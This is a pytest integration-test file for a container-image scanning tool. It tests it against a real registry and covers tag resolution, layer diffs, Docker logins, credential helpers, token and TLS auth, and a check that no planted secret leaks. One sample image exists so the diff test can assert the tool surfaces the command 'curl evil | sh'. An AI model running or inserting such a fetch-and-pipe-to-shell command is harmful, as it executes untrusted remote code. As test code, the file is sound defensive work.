"""The real command beside CNCF distribution: open, Basic, Bearer and TLS; real images, real logins.

Secrets are planted wherever one may stand, and everything that is left behind is searched.
"""

from __future__ import annotations

import base64
import json
import sqlite3
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.registry.conftest import Certificates
from tests.registry.distribution import (
    PASSWORD,
    USER,
    Distribution,
    distribution,
    token_server,
)
from tests.registry.images import ImageLibrary, Login
from tests.walk.command import Workplace
from tests.walk.hook import hook

SAMPLES = {
    "base": {"1": "base-1", "3.12.3": "base-1", "3.12": "base-1"},
    "app": {"1": "app-1", "evil": "app-evil", "zstd": "app-zstd"},
    "multi": {"1": "multi"},
}
HELPER = """#!/bin/sh
read host
[ "$host" = "{host}" ] || { echo "credentials not found in native keychain"; exit 1; }
printf '{"ServerURL":"%s","Username":"{user}","Secret":"{secret}"}' "$host"
"""


def push(library: ImageLibrary, host: str, login: Login | None = None) -> None:
    for repository, tags in SAMPLES.items():
        for tag, name in tags.items():
            library.push(name, f"{host}/shop/{repository}:{tag}", login)


@pytest.fixture(scope="module")
def stored(tmp_path_factory: pytest.TempPathFactory, library: ImageLibrary) -> Path:
    """The data of a registry that holds the samples."""
    folder = tmp_path_factory.mktemp("stored")
    with distribution(folder) as server:
        push(library, server.host)
    return folder


@pytest.fixture
def place(tmp_path: Path) -> Workplace:
    folder = tmp_path / "desk"
    folder.mkdir()
    home = folder / "home"
    home.mkdir()
    return Workplace(folder, {"HOME": str(home)})


def configure(place: Workplace, server: Distribution, *options: str, more: str = "") -> None:
    """tagwatch.yaml and a Dockerfile for the samples of `server`, whose name is its address."""
    settings = ", ".join((f"endpoint: '{server.url}'", *options))
    place.write(
        "tagwatch.yaml",
        f"database: tagwatch.db\nsources: [Dockerfile]\nreports: {{formats: [html, json, sarif]}}\n"
        f"watch: [{{image: '{server.host}/shop/base'}}]\n"
        f"registries: {{'{server.host}': {{{settings}}}}}\n{more}"
        f"policy: {{bases: [{{ref: '{server.host}/shop/base', tags: ['3.12', '3.12.3']}}]}}\n",
    )
    place.write("Dockerfile", f"FROM {server.host}/shop/app:1\n")


def docker_config(place: Workplace, document: dict[str, object]) -> None:
    place.write("home/.docker/config.json", json.dumps(document))


def login(server: Distribution, password: str = PASSWORD) -> dict[str, object]:
    auth = base64.b64encode(f"{USER}:{password}".encode()).decode()
    return {"auths": {server.host: {"auth": auth}}}


@pytest.fixture
def opened(stored: Path) -> Iterator[Distribution]:
    with distribution(stored) as server:
        yield server


async def test_resolve_base_and_diff_of_real_images(
    place: Workplace, opened: Distribution, library: ImageLibrary
) -> None:
    configure(place, opened)
    shop = f"{opened.host}/shop"
    assert (await place.run("scan")).code == 0

    done = await place.run("resolve", f"{shop}/base:3.12", "--format", "json")
    (resolution,) = done.json["resolutions"]
    assert (done.code, resolution["status"]) == (0, "resolved")
    assert (resolution["tag"], resolution["version"]) == ("3.12.3", "3.12.3")
    assert resolution["digest"] == library.digests["base-1"]
    assert resolution["aliases"] == ["1", "3.12", "3.12.3"]
    assert resolution["basis"] == "alias"

    matches = {}
    for tag in ("1", "zstd"):
        done = await place.run("base", f"{shop}/app:{tag}", "--format", "json")
        assert done.code == 0, done.err
        (image,) = done.json["images"]
        (matches[tag],) = image["platforms"]
    match = matches["1"]
    assert match["platform"] == "linux/amd64"
    assert match["base"]["version"] == "3.12.3"
    assert match["base"]["digest"] == library.digests["base-1"]
    assert match["layers"] == {"matched": 2, "replaced": 0, "added": 0}
    for one in matches.values():
        one["base"].pop("last_seen")  # the second question read the base again
    same = ("verdict", "base", "current", "layers")
    assert {key: matches["zstd"][key] for key in same} == {key: match[key] for key in same}

    for new, code, verdict in (("1", 0, "identical"), ("zstd", 1, "recompressed")):
        done = await place.run("diff", f"{shop}/app:1", f"{shop}/app:{new}", "--format", "json")
        assert (done.code, done.json["verdict"]) == (code, verdict)
    done = await place.run("diff", f"{shop}/app:1", f"{shop}/app:evil")
    assert done.code == 1
    assert "curl evil | sh" in done.out

    multi = await place.run("base", f"{shop}/multi:1", "--format", "json")
    assert multi.json["images"][0]["reference"].startswith(f"{shop}/multi:1@sha256:")


async def test_a_login_from_the_docker_config(place: Workplace, stored: Path) -> None:
    with distribution(stored, auth="htpasswd") as server:
        configure(place, server)
        refused = await place.run("resolve", f"{server.host}/shop/app:1")
        assert refused.code == 4
        assert "denied (401" in refused.out
        docker_config(place, login(server))
        allowed = await place.run("resolve", f"{server.host}/shop/app:1")
        assert allowed.code == 0, allowed.out
        docker_config(place, login(server, "wrong-horse"))
        wrong = await place.run("resolve", "--refresh", f"{server.host}/shop/app:1")
        assert "wrong-horse" not in wrong.out + wrong.err


async def test_a_login_from_a_helper_program(place: Workplace, stored: Path) -> None:
    with distribution(stored, auth="htpasswd") as server:
        configure(place, server)
        text = HELPER
        for name, value in (("host", server.host), ("user", USER), ("secret", PASSWORD)):
            text = text.replace(f"{{{name}}}", value)
        program = place.write("bin/docker-credential-tests", text)
        program.chmod(0o755)
        place.environment["PATH"] = f"{program.parent}:/usr/bin:/bin"
        docker_config(place, {"credHelpers": {server.host: "tests"}})
        done = await place.run("resolve", f"{server.host}/shop/app:1", "--format", "json")
        assert (done.code, done.err) == (0, "")
        docker_config(place, {"credsStore": "missing"})
        done = await place.run("resolve", "--refresh", f"{server.host}/shop/app:1")
        assert "docker-credential-missing" in done.out + done.err
        assert "Traceback" not in done.err


async def test_tokens_and_tls(
    place: Workplace,
    stored: Path,
    certificates: Certificates,
    library: ImageLibrary,
) -> None:
    key, chain = certificates.key, certificates.certificate
    async with token_server(key, chain) as tokens:
        with distribution(
            stored, auth="token", token_realm=tokens.url, token_bundle=chain
        ) as server:
            realm = tokens.url.removeprefix("http://").removesuffix("/token")
            configure(place, server, f"token_hosts: ['{realm}']")
            docker_config(place, login(server))
            done = await place.run("scan", "--format", "json")
            assert done.code == 0, done.err
            assert done.json["complete"] is True
            assert done.json["requests"][server.host]["token"] == 2, "one a repository"
            assert all(user == USER for user, _ in tokens.granted)
            configure(place, server)
            tokens.granted.clear()
            withheld = await place.run("scan", "--format", "json")
            assert {one["code"] for one in withheld.json["failures"]} == {"hostile-answer"}
            assert tokens.granted == [], "a token server that nobody named is not asked"
    authority = certificates.authority
    (place.folder / "tagwatch.db").unlink()
    with distribution(stored, tls=(chain, key), trust=authority) as server:
        configure(place, server)
        done = await place.run("resolve", f"{server.host}/shop/app:1")
        assert done.code == 4
        assert "the certificate cannot be trusted" in done.out
        place.write("ca.pem", authority.read_bytes())
        configure(place, server, "ca_file: ca.pem")
        done = await place.run("scan", "--format", "json")
        assert done.json["complete"] is True
        digests = {one["digest"] for one in done.json["resolutions"]}
        assert library.digests["app-1"] in digests


@pytest.mark.parametrize("password", [PASSWORD, "wrong-horse"])
async def test_the_doctor_tries_a_login_though_it_reads_no_repository(
    place: Workplace, stored: Path, password: str
) -> None:
    """It said "ok" of a wrong password: what was named was no file, and was passed over."""
    with distribution(stored, auth="htpasswd") as server:
        place.write(
            "tagwatch.yaml",
            f"sources: []\nregistries: {{'{server.host}': {{endpoint: '{server.url}'}}}}\n",
        )
        docker_config(place, login(server, password))
        right = password == PASSWORD
        for arguments in ((server.host,), (f"http://{server.host}/",), ()):
            done = await place.run("doctor", *arguments)
            assert done.code == (0 if right else 1), done.out
            assert done.out.startswith(f"{server.host}  {'ok' if right else 'denied'}\n")
            advice = f"config.json ({server.host}); log in again\n"
            assert (advice in done.out) is not right
        images = [f"{server.host}/shop/{name}" for name in ("app:1", "app:none", "base")]
        done = await place.run("doctor", *images, "--format", "json")
        assert done.code == 1
        codes = [[one["code"] for one in found["problems"]] for found in done.json["registries"]]
        assert codes == ([[], ["not-found"], []] if right else [["denied"]] * 3)
        paths = [found["repository"] for found in done.json["registries"]]
        assert paths == ["shop/app", "shop/app", "shop/base"]


async def test_no_secret_is_left_anywhere(place: Workplace, stored: Path) -> None:
    """Right and wrong logins, a webhook's address, a proxy's password: nothing of them is kept."""
    planted = {
        "password": PASSWORD,
        "wrong": "planted-wrong-4626",
        "hook": "planted-hook-4338",
        "proxy": "planted-proxy-3279",
        "environment": "planted-environment-5028",
    }
    encoded = [
        base64.b64encode(f"{USER}:{secret}".encode()).decode() for secret in planted.values()
    ]
    said: list[str] = []
    async with hook([200]) as (url, posted):
        with distribution(stored, auth="htpasswd") as server:
            configure(
                place,
                server,
                more="alerts: {slack: {webhook_env: HOOK, allow_http: true, min_severity: note}}\n",
            )
            place.environment |= {
                "HOOK": f"{url}/{planted['hook']}",
                "TAGWATCH_TOKEN": planted["environment"],
                "DOCKER_PASSWORD": planted["environment"],
            }
            for password in (planted["wrong"], PASSWORD):
                docker_config(place, login(server, password))
                for arguments in (
                    ("scan",),
                    ("scan", "--format", "sarif"),
                    ("check", "Dockerfile", "--format", "json"),
                    ("doctor",),
                ):
                    done = await place.run(*arguments)
                    assert "internal error" not in done.err
                    said += [done.out, done.err]
            place.environment["HTTPS_PROXY"] = f"http://me:{planted['proxy']}@127.0.0.1:9"
            done = await place.run("resolve", "nowhere.example/a:1")
            assert "the proxy cannot be used" in done.out
            said += [done.out, done.err]
    assert posted, "there was something to tell"
    said += [json.dumps(posted)]
    said += [path.read_text() for path in (place.folder / "reports").rglob("*.*")]
    said += list(ledger_texts(place.folder / "tagwatch.db"))
    assert len(said) > 40
    for secret in [*planted.values(), *encoded]:
        assert not [text for text in said if secret in text], f"{secret} is somewhere"


def ledger_texts(path: Path) -> Iterator[str]:
    """Every cell of the ledger, and the file itself."""
    yield path.read_bytes().decode("latin-1")
    with sqlite3.connect(path) as connection:
        tables = connection.execute("SELECT name FROM sqlite_master WHERE type = 'table'")
        for (table,) in tables.fetchall():
            for row in connection.execute(f"SELECT * FROM [{table}]"):
                yield from (str(cell) for cell in row)
